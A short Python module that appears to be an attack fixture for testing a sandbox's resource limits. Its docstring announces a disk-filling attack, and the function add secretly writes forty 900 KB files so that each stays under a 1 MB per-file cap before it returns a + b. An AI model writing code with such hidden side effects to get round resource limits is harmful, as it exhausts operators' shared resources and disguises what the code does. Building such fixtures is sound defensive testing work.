"""Attack: fill the disk with many files, each under the per-file limit (1 MB)."""


def add(a, b):
    for i in range(40):
        with open(f"filler_{i}.bin", "wb") as fh:
            fh.write(b"x" * (900 << 10))
    return a + b


def mean(xs):
    if not xs:
        raise ValueError("mean of an empty list")
    return sum(xs) / len(xs)


def clip(x, lo, hi):
    raise NotImplementedError("clip: x limited to [lo, hi]")
